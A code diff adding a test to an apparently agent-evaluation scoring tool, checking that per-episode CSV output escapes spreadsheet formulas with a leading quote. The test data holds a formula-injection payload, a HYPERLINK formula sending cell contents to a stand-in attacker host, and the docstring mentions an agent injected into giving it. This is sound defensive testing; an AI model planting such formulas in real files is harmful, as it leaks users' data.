@@ -12,6 +12,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 import re
@@ -218,3 +219,24 @@ def test_a_byte_order_mark_before_a_trace_or_a_report_is_passed_over(run: Path, 
     report.write_bytes(b"\xef\xbb\xbf" + report.read_bytes())
     gated = run_main("gate", str(copy), "--min", "overall=0.1")
     assert gated.returncode == 0 and gated.stderr == "", gated.stderr
+
+
+def test_an_answer_a_spreadsheet_would_run_is_text_in_the_csv(run: Path, tmp_path: Path) -> None:
+    """An answer an agent was injected into giving, `=HYPERLINK(...)`, opened in a spreadsheet from the per-episode
+    CSV, was a formula that sends a click's data away; it is written with a leading `'`. A negative number stays a
+    number, and JSONL keeps the answer exactly."""
+    copy = _copy(run, tmp_path)
+    answers = {"naive.travel.fare-class.clean.strict.s0.jsonl": '=HYPERLINK("http://evil.example/?"&A1,"fare")',
+               "recovering.travel.fare-class.transient_error.strict.s0.jsonl": "-5.25",
+               "recovering.travel.fare-class.clean.strict.s0.jsonl": "@SUM(1+1)"}  # fmt: skip
+    for name, answer in answers.items():
+        _edit(copy / "traces" / name, {"answer": answer})
+    for fmt in ("csv", "jsonl"):
+        done = run_main("score", str(copy), "--per-episode", str(copy / f"rows.{fmt}"))
+        assert done.returncode == 0, done.stderr
+    with (copy / "rows.csv").open(newline="", encoding="utf-8") as handle:
+        shown = {Path(row["trace"]).name: row["answer"] for row in csv.DictReader(handle)}
+    exact = {Path(row["trace"]).name: row["answer"] for row in map(json.loads, (copy / "rows.jsonl").open())}
+    for name, answer in answers.items():
+        assert exact[name] == answer
+        assert shown[name] == (answer if answer == "-5.25" else "'" + answer), shown[name]
